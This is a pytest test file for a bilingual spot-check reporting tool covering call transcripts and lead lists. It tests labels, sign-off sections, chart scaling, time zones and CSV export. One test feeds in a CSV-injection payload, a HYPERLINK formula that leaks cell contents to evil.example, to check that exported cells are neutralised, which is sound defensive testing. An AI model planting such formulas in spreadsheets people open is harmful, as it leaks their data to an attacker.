"""report.html: labels in the auditor's language, a sign-off section, a chart whose small bars show."""

from __future__ import annotations

import datetime
import json
import re
from collections import Counter
from html.parser import HTMLParser
from pathlib import Path

import pytest
from click.testing import CliRunner

from screen.cli.main import main
from screen.spotcheck.report import LABELS, axis_maximum, render_html, write_reports
from screen.spotcheck.transcripts import SampledRecord, SpotCheckResult


def two_percent_result() -> SpotCheckResult:
    records = [
        SampledRecord(f"calls.jsonl:{n}", "calls.jsonl", "你好", ["residual_pii"] if n < 2 else [], place=f"line {n}")
        for n in range(100)
    ]
    return SpotCheckResult(
        "transcripts", ["calls.jsonl"], 10_000, 7, records, ["residual_pii", "optout_phrase"], Counter()
    )


def test_every_language_has_every_label():
    assert set(LABELS) == {"zh-CN", "en"}
    assert set(LABELS["zh-CN"]) == set(LABELS["en"])


@pytest.mark.parametrize("lang", ["zh-CN", "en"])
def test_labels_sign_off_and_review_pointer_in_each_language(lang):
    page = render_html(two_percent_result(), lang)
    labels = LABELS[lang]
    assert f'<html lang="{lang}">' in page
    for key in ("title", "summary", "estimates", "population", "signoff", "reviewer", "date", "verdict", "signature"):
        assert labels[key] in page, key
    other = LABELS["en" if lang == "zh-CN" else "zh-CN"]
    assert other["summary"] not in page and other["signoff"] not in page
    signoff = page.split('<section id="signoff">', 1)[1].split("</section>", 1)[0]
    assert 'href="review.csv"' in signoff
    assert signoff.count('class="fill"') == 4  # reviewer, date, verdict, signature


def test_the_chart_scales_its_axis_so_a_two_percent_bar_is_visible_and_has_ticks():
    result = two_percent_result()
    estimates = result.estimates()
    assert estimates[0].rate == 0.02
    top = axis_maximum(estimates)
    assert top < 0.2  # the bar is not drawn against 100%
    svg = render_html(result, "en").split("<svg", 1)[1].split("</svg>", 1)[0]
    bar = float(re.search(r'<rect [^>]*width="([0-9.]+)"', svg).group(1))
    assert bar >= 25  # pixels
    ticks = re.findall(r'<text class="tick"[^>]*>([^<]+)</text>', svg)
    assert ticks[0] == "0%" and ticks[-1] == f"{100 * top:g}%" and len(ticks) >= 5


def test_the_cli_writes_the_report_in_the_language_asked_for(tmp_path):
    calls = tmp_path / "calls.jsonl"
    calls.write_text('{"text": "你好"}\n{"text": "再见"}\n', encoding="utf-8")
    for lang, expected in (("en", "Sign-off"), (None, "审核签字")):
        out = tmp_path / (lang or "default")
        args = ["spotcheck", str(calls), "--sample", "2", "--seed", "1", "--out-dir", str(out)]
        result = CliRunner().invoke(main, args + (["--lang", lang] if lang else []))
        assert result.exit_code == 0, result.output
        page = (out / "report.html").read_text(encoding="utf-8")
        assert expected in page and f'<html lang="{lang or "zh-CN"}">' in page
    bad = CliRunner().invoke(main, ["spotcheck", str(calls), "--sample", "1", "--lang", "fr"])
    assert bad.exit_code == 2


def test_write_reports_refuses_an_unknown_language_before_writing(tmp_path):
    from screen.errors import UsageError

    with pytest.raises(UsageError):
        write_reports(two_percent_result(), tmp_path / "out", "fr")
    assert not (tmp_path / "out").exists()


def test_review_csv_neutralizes_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
    """Issue 11 item 8: auditors open review.csv in Excel; a cell starting with = + - @ tab or CR
    is a formula there (OWASP "CSV Injection"), so it gets a leading quote."""
    import csv

    from click.testing import CliRunner

    from screen.cli.main import main

    call = tmp_path / "call.txt"
    call.write_text('=HYPERLINK("http://evil.example/?"&A1,"点这里")', encoding="utf-8")
    calls = tmp_path / "calls.jsonl"
    calls.write_text('{"id": "@SUM(A1)", "text": "您好"}\n{"id": "-2+3", "text": "\\t=1+1"}\n', encoding="utf-8")
    out = tmp_path / "out"
    result = CliRunner().invoke(
        main, ["spotcheck", str(call), str(calls), "--sample", "3", "--seed", "1", "--out-dir", str(out)]
    )
    assert result.exit_code == 0, result.output
    with (out / "review.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)
    assert {"'@SUM(A1)", "'-2+3"} <= set(cells)


# -- the zh-CN report says everything in Chinese, at the campaign's time (issue 24, item 17) -------


ROOT = Path(__file__).resolve().parents[2]
SAMPLES = ROOT / "sample_lists"
# Proper names and what the page shows on purpose in both languages; file names are data.
NOT_WORDS = re.compile(r"leadscreen|Wilson|QQ|ACCEPTED|REJECTED|[\w.-]+\.(?:csv|jsonl|json|txt|xlsx)\b")
NOON_UTC = datetime.datetime(2026, 12, 1, 12, 0, tzinfo=datetime.UTC)


class _VisibleText(HTMLParser):
    """Text a reader sees: outside <style>, the records' own text (<pre>) and code (<code>, ids,
    file paths); titles and labels included."""

    def __init__(self):
        super().__init__()
        self.open: list[str] = []
        self.texts: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.open.append(tag)
        self.texts += [value for name, value in attrs if name in ("title", "aria-label") and value]

    def handle_endtag(self, tag):
        while self.open and self.open.pop() != tag:
            pass

    def handle_data(self, data):
        if data.strip() and not {"style", "pre", "code"} & set(self.open):
            self.texts.append(data.strip())


def english_on(page: str) -> list[str]:
    reader = _VisibleText()
    reader.feed(page)
    return sorted({text for text in reader.texts if re.search(r"[A-Za-z]{2,}", NOT_WORDS.sub("", text))})


def _spotcheck(tmp_path, monkeypatch, *args: str) -> tuple[str, dict]:
    monkeypatch.setattr("screen.clock.utc_now", lambda: NOON_UTC)
    out = tmp_path / "spot"
    result = CliRunner().invoke(main, ["spotcheck", *args, "--seed", "1", "--out-dir", str(out)])
    assert result.exit_code in (0, 1), result.output
    return (out / "report.html").read_text(encoding="utf-8"), json.loads((out / "report.json").read_text("utf-8"))


def test_every_visible_string_of_a_transcript_report_is_chinese(tmp_path, monkeypatch):
    calls = tmp_path / "calls.jsonl"
    lines = (SAMPLES / "transcripts" / "calls.jsonl").read_text(encoding="utf-8").splitlines()
    calls.write_text("\n".join([*lines, '{"text": "不要再打了"', "[1]"]) + "\n", encoding="utf-8")
    page, _ = _spotcheck(tmp_path, monkeypatch, str(calls), "--sample", str(len(lines) + 2))
    assert english_on(page) == []
    assert "残留个人信息" in page and "无法读取" in page and "手机号码" in page


def test_every_visible_string_of_a_list_report_is_chinese(tmp_path, monkeypatch):
    lists = [str(SAMPLES / "first_party_webform.csv"), str(SAMPLES / "bought_list.csv")]
    policy = ["--campaign", "insurance_leads", "--policy", str(SAMPLES / "leadscreen.toml"), "--as-of", "2026-11-20"]
    page, report = _spotcheck(tmp_path, monkeypatch, *lists, "--sample", "60", *policy)
    assert english_on(page) == []
    assert "被拒绝的行" in page and "没有清单说明文件" in page
    assert report["notes"][0].startswith("Each list was screened whole")  # report.json keeps its codes and English


def test_an_english_report_keeps_its_codes(tmp_path, monkeypatch):
    calls = SAMPLES / "transcripts" / "calls.jsonl"
    page, _ = _spotcheck(tmp_path, monkeypatch, str(calls), "--sample", "3", "--lang", "en")
    assert "residual_pii" in page and "残留个人信息" not in page


@pytest.mark.parametrize(
    ("zone", "shown", "local"),
    [
        (None, "北京时间", "2026-12-01T20:00:00+08:00"),
        ("Asia/Urumqi", "乌鲁木齐时间", "2026-12-01T18:00:00+06:00"),
        ("Europe/Berlin", "Europe/Berlin", "2026-12-01T13:00:00+01:00"),
    ],
)
def test_the_report_shows_its_time_in_the_campaign_zone(tmp_path, monkeypatch, zone, shown, local):
    policy = tmp_path / "policy.toml"
    zone_line = f'timezone = "{zone}"\n' if zone else ""
    policy.write_text(f'[campaigns.leads]\npurpose = "保险产品推荐"\n{zone_line}', encoding="utf-8")
    webform = str(SAMPLES / "first_party_webform.csv")
    page, report = _spotcheck(
        tmp_path, monkeypatch, webform, "--sample", "3", "--campaign", "leads", "--policy", str(policy)
    )
    assert f"<th>生成时间（{shown}）</th><td>{local}</td>" in page
    assert report["generated_at"] == "2026-12-01T12:00:00+00:00" and report["timezone"] == (zone or "Asia/Shanghai")
